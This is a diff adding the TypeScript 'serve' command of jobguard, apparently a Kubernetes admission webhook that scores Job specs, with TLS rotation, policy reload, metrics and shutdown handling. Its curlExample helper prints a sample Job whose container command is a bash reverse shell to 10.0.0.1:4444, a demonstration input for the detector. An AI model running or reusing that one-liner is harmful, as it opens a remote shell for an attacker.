@@ -1,0 +1,378 @@
+import { createServer, type Server } from 'node:http';
+import type { Server as HttpsServer } from 'node:https';
+import { pino, type Logger } from 'pino';
+import type { FastifyInstance } from 'fastify';
+import { createEngine, type Engine } from '../engine.js';
+import { expiredExemptions } from '../policy/decide.js';
+import { resolvePolicy, type PolicyOverrides } from '../policy/load.js';
+import { MODES } from '../policy/schema.js';
+import { buildApp, DEFAULT_BODY_LIMIT } from '../server/app.js';
+import { createMetrics, type Metrics } from '../server/metrics.js';
+import {
+  generateCertificate,
+  readTlsFiles,
+  watchTlsFiles,
+  type TlsFiles,
+  type TlsMaterial,
+} from '../server/tls.js';
+import {
+  parseChoice,
+  parseFlags,
+  parseInteger,
+  parseSize,
+  UsageError,
+  type CliIo,
+  type Command,
+} from './io.js';
+
+const HELP = `Usage: jobguard serve [flags]
+
+Runs the validating admission webhook: POST /validate, GET /healthz, GET /readyz, GET /metrics.
+
+Flags:
+  --config FILE             policy file (YAML or JSON, apiVersion jobguard.dev/v1); reloaded when it changes
+  --host H                  address to listen on (default 127.0.0.1; 0.0.0.0 in a pod)
+  --port N                  HTTPS port (default 8443)
+  --tls-cert-file F         serving certificate (PEM); reloaded when it changes
+  --tls-key-file F          its private key (PEM); without both, a self-signed certificate is generated in memory
+  --client-ca-file F        require client certificates signed by this CA (mTLS from kube-apiserver)
+  --metrics-port N          also serve /metrics over plain HTTP on this port
+  --profile P               scoring profile: default | kql (overrides the file)
+  --mode M                  enforce | warn | audit | off (default warn; overrides the file)
+  --annotate-threshold N    score at which audit annotations are added (kql: 1)
+  --warn-threshold N        score at which kubectl warnings are returned (kql: 1)
+  --deny-threshold N        score at which requests are denied in enforce mode (kql: 3)
+  --body-limit SIZE         largest request body, e.g. 8MiB (default 8MiB)
+  --kubeconfig FILE         cluster for namespace labels when not running in a pod
+  --shutdown-delay SECONDS  on SIGTERM, keep serving this long after /readyz turns false (default 0)
+  --log-level L             fatal | error | warn | info | debug | trace (default info)
+  -h, --help                show this help
+`;
+
+const FLAGS = {
+  config: { type: 'string' },
+  host: { type: 'string', default: '127.0.0.1' },
+  port: { type: 'string', default: '8443' },
+  'tls-cert-file': { type: 'string' },
+  'tls-key-file': { type: 'string' },
+  'client-ca-file': { type: 'string' },
+  'metrics-port': { type: 'string' },
+  profile: { type: 'string' },
+  mode: { type: 'string' },
+  'annotate-threshold': { type: 'string' },
+  'warn-threshold': { type: 'string' },
+  'deny-threshold': { type: 'string' },
+  'body-limit': { type: 'string' },
+  kubeconfig: { type: 'string' },
+  'shutdown-delay': { type: 'string', default: '0' },
+  'log-level': { type: 'string', default: 'info' },
+  help: { type: 'boolean', short: 'h' },
+} as const;
+
+export interface ServeOptions {
+  configFile?: string;
+  overrides: PolicyOverrides;
+  host: string;
+  port: number;
+  tls?: TlsFiles;
+  metricsPort?: number;
+  bodyLimit: number;
+  kubeconfig?: string;
+  shutdownDelayMs: number;
+  logger: Logger;
+  env: NodeJS.ProcessEnv;
+}
+
+/** `--*-threshold` flags, shared with scan and audit. */
+export function thresholdOverrides(
+  values: Record<string, string | boolean | undefined>,
+): PolicyOverrides['thresholds'] {
+  const thresholds: NonNullable<PolicyOverrides['thresholds']> = {};
+  for (const key of ['annotate', 'warn', 'deny'] as const) {
+    const raw = values[`${key}-threshold`];
+    const n = parseInteger(`${key}-threshold`, typeof raw === 'string' ? raw : undefined, 1, 1000);
+    if (n !== undefined) thresholds[key] = n;
+  }
+  return thresholds;
+}
+
+export function policyOverrides(values: Record<string, string | boolean | undefined>): PolicyOverrides {
+  const mode = parseChoice('mode', values.mode as string | undefined, MODES);
+  const profile = parseChoice('profile', values.profile as string | undefined, ['default', 'kql'] as const);
+  return {
+    ...(mode ? { mode } : {}),
+    ...(profile ? { profile } : {}),
+    thresholds: thresholdOverrides(values),
+  };
+}
+
+export interface RunningServer {
+  app: FastifyInstance;
+  url: string;
+  metrics: Metrics;
+  /** Readiness goes false, in-flight requests finish, watchers stop. */
+  close(): Promise<void>;
+}
+
+function logExpired(logger: Logger, metrics: Metrics, engine: Engine): void {
+  const expired = expiredExemptions(engine.compiled, new Date());
+  metrics.exemptionsExpired.set(expired.length);
+  for (const exemption of expired) {
+    logger.warn(
+      { reason: exemption.reason, expires: exemption.expires },
+      'exemption expired; it no longer applies',
+    );
+  }
+}
+
+/** Starts the webhook with everything wired: policy (and its reload), TLS (and rotation), namespace labels, metrics. */
+export async function startServer(options: ServeOptions): Promise<RunningServer> {
+  const { logger } = options;
+  const metrics = createMetrics();
+  const policy = await resolvePolicy(options.configFile, options.overrides);
+  let engine = createEngine(policy);
+  metrics.policyReloads.inc({ result: 'success' });
+  metrics.policyLastReloadSuccess.set(Date.now() / 1000);
+  logExpired(logger, metrics, engine);
+  let policyError: string | undefined;
+
+  let tls: TlsMaterial;
+  if (options.tls) {
+    tls = await readTlsFiles(options.tls);
+  } else {
+    tls = await generateCertificate([
+      options.host === '0.0.0.0' ? 'localhost' : options.host,
+      'localhost',
+      '127.0.0.1',
+    ]);
+    logger.warn(
+      'no --tls-cert-file/--tls-key-file: serving a self-signed certificate generated in memory (for local use only)',
+    );
+  }
+  metrics.certificateExpiry.set(tls.notAfter.getTime() / 1000);
+
+  let draining = false;
+  let namespaceCache: import('../kube/namespaces.js').NamespaceLabels | undefined;
+  if (policy.namespaceLabels.enabled) {
+    const inCluster = Boolean(options.env.KUBERNETES_SERVICE_HOST);
+    if (inCluster || options.kubeconfig) {
+      const kube = await import('../kube/namespaces.js');
+      const kubeConfig = kube.loadKubeConfig({
+        env: options.kubeconfig ? { KUBECONFIG: options.kubeconfig } : options.env,
+      });
+      if (kubeConfig)
+        namespaceCache = kube.watchNamespaceLabels({
+          kubeConfig,
+          logger: logger.child({ component: 'namespaces' }),
+        });
+    }
+    if (!namespaceCache) logger.info('no cluster access: namespace labels (jobguard.dev/mode) are not used');
+  }
+
+  const cache = namespaceCache;
+  const app = buildApp({
+    logger,
+    engine: () => engine,
+    ...(cache ? { namespaceLabels: (ns: string) => cache.get(ns) } : {}),
+    metrics,
+    bodyLimit: options.bodyLimit,
+    readiness: () => ({
+      ready: !draining,
+      detail: {
+        draining,
+        profile: engine.policy.profile,
+        mode: engine.policy.mode,
+        ...(policyError ? { policyError } : {}),
+        ...(namespaceCache
+          ? {
+              namespaceLabels: namespaceCache.isSynced() ? 'synced' : 'syncing',
+              namespaceError: namespaceCache.lastError(),
+            }
+          : {}),
+        certificateNotAfter: tls.notAfter.toISOString(),
+      },
+    }),
+    https: {
+      key: tls.key,
+      cert: tls.cert,
+      ...(tls.ca ? { ca: tls.ca, requestCert: true, rejectUnauthorized: true } : {}),
+    },
+  });
+
+  const closers: (() => Promise<void> | void)[] = [];
+  if (options.configFile) {
+    const { watchPolicyFile } = await import('../policy/watch.js');
+    const watcher = watchPolicyFile({
+      file: options.configFile,
+      overrides: options.overrides,
+      logger: logger.child({ component: 'policy' }),
+      onPolicy(next) {
+        const nextEngine = createEngine(next);
+        engine = nextEngine;
+        policyError = undefined;
+        metrics.policyReloads.inc({ result: 'success' });
+        metrics.policyLastReloadSuccess.set(Date.now() / 1000);
+        logExpired(logger, metrics, nextEngine);
+      },
+      onError(error) {
+        policyError = error.message;
+        metrics.policyReloads.inc({ result: 'failure' });
+      },
+    });
+    closers.push(() => watcher.close());
+  }
+  if (options.tls) {
+    const tlsFiles = options.tls;
+    const watcher = watchTlsFiles(tlsFiles, tls, {
+      onChange(material) {
+        (app.server as unknown as HttpsServer).setSecureContext({
+          key: material.key,
+          cert: material.cert,
+          ...(material.ca ? { ca: material.ca } : {}),
+        });
+        tls = material;
+        metrics.certificateExpiry.set(material.notAfter.getTime() / 1000);
+        logger.info({ notAfter: material.notAfter.toISOString() }, 'TLS certificate reloaded');
+      },
+      onError(error) {
+        logger.warn(
+          { error: error.message },
+          'TLS files changed but could not be loaded; keeping the current certificate',
+        );
+      },
+    });
+    closers.push(() => {
+      watcher.close();
+    });
+  }
+  if (namespaceCache) closers.push(() => namespaceCache.stop());
+
+  await app.listen({ host: options.host, port: options.port });
+  const address = app.server.address();
+  const port = typeof address === 'object' && address ? address.port : options.port;
+  const host = options.host.includes(':') ? `[${options.host}]` : options.host;
+  const url = `https://${host}:${port}`;
+
+  let metricsServer: Server | undefined;
+  if (options.metricsPort !== undefined) {
+    metricsServer = createServer((req, res) => {
+      if (req.method === 'GET' && req.url?.split('?')[0] === '/metrics') {
+        metrics.registry.metrics().then(
+          (text) => res.writeHead(200, { 'content-type': metrics.registry.contentType }).end(text),
+          () => res.writeHead(500).end(),
+        );
+      } else res.writeHead(404, { 'content-type': 'application/json' }).end('{"error":"not-found"}');
+    });
+    const server = metricsServer;
+    await new Promise<void>((resolve) => server.listen(options.metricsPort, options.host, resolve));
+  }
+
+  logger.info(
+    {
+      url,
+      profile: engine.policy.profile,
+      mode: engine.policy.mode,
+      certificate: tls.source,
+      kinds: engine.policy.kinds,
+    },
+    'jobguard is serving',
+  );
+
+  let closing: Promise<void> | undefined;
+  return {
+    app,
+    url,
+    metrics,
+    close() {
+      closing ??= (async () => {
+        draining = true;
+        if (options.shutdownDelayMs > 0)
+          await new Promise((resolve) => setTimeout(resolve, options.shutdownDelayMs));
+        await app.close();
+        const plain = metricsServer;
+        if (plain)
+          await new Promise<void>((resolve) => {
+            plain.close(() => {
+              resolve();
+            });
+          });
+        for (const close of closers) await close();
+      })();
+      return closing;
+    },
+  };
+}
+
+function curlExample(url: string): string {
+  return [
+    '',
+    `jobguard is listening on ${url} (self-signed certificate: use curl -k). Try:`,
+    '',
+    `  curl -sk ${url}/validate -H 'Content-Type: application/json' -d '{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"uid":"1","kind":{"group":"batch","version":"v1","kind":"Job"},"resource":{"group":"batch","version":"v1","resource":"jobs"},"namespace":"default","operation":"CREATE","userInfo":{"username":"me"},"object":{"apiVersion":"batch/v1","kind":"Job","metadata":{"name":"x"},"spec":{"template":{"spec":{"restartPolicy":"Never","containers":[{"name":"x","image":"alpine","command":["sh","-c","bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]}]}}}}}}'`,
+    '',
+  ].join('\n');
+}
+
+export const serve: Command = async (argv: string[], io: CliIo): Promise<number> => {
+  const { values } = parseFlags(argv, FLAGS);
+  if (values.help) {
+    io.stdout.write(HELP);
+    return 0;
+  }
+  const certFile = values['tls-cert-file'];
+  const keyFile = values['tls-key-file'];
+  if ((certFile === undefined) !== (keyFile === undefined))
+    throw new UsageError('--tls-cert-file and --tls-key-file go together');
+  const clientCa = values['client-ca-file'];
+  const logLevel =
+    parseChoice('log-level', values['log-level'], [
+      'fatal',
+      'error',
+      'warn',
+      'info',
+      'debug',
+      'trace',
+    ] as const) ?? 'info';
+  const logger = pino({ level: logLevel, base: { service: 'jobguard' } }, io.stdout);
+  const metricsPort = parseInteger('metrics-port', values['metrics-port'], 1, 65535);
+  const options: ServeOptions = {
+    overrides: policyOverrides(values),
+    host: values.host,
+    port: parseInteger('port', values.port, 0, 65535) ?? 8443,
+    bodyLimit: parseSize('body-limit', values['body-limit']) ?? DEFAULT_BODY_LIMIT,
+    shutdownDelayMs: (parseInteger('shutdown-delay', values['shutdown-delay'], 0, 600) ?? 0) * 1000,
+    logger,
+    env: io.env,
+    ...(values.config === undefined ? {} : { configFile: values.config }),
+    ...(certFile && keyFile ? { tls: { certFile, keyFile, ...(clientCa ? { caFile: clientCa } : {}) } } : {}),
+    ...(metricsPort === undefined ? {} : { metricsPort }),
+    ...(values.kubeconfig === undefined ? {} : { kubeconfig: values.kubeconfig }),
+  };
+  if (clientCa && !options.tls)
+    throw new UsageError('--client-ca-file needs --tls-cert-file and --tls-key-file');
+  let server: RunningServer;
+  try {
+    server = await startServer(options);
+  } catch (error) {
+    if (
+      error instanceof Error &&
+      (error.name === 'TlsError' || (error as NodeJS.ErrnoException).code === 'EADDRINUSE')
+    ) {
+      throw new UsageError(error.message);
+    }
+    throw error;
+  }
+  if (!options.tls) io.stderr.write(curlExample(server.url));
+  await new Promise<void>((resolve) => {
+    const stop = (signal: NodeJS.Signals): void => {
+      logger.info({ signal }, 'shutting down: readiness is false, finishing in-flight requests');
+      process.off('SIGTERM', stop);
+      process.off('SIGINT', stop);
+      void server.close().then(resolve);
+    };
+    process.on('SIGTERM', stop);
+    process.on('SIGINT', stop);
+  });
+  logger.info('stopped');
+  return 0;
+};
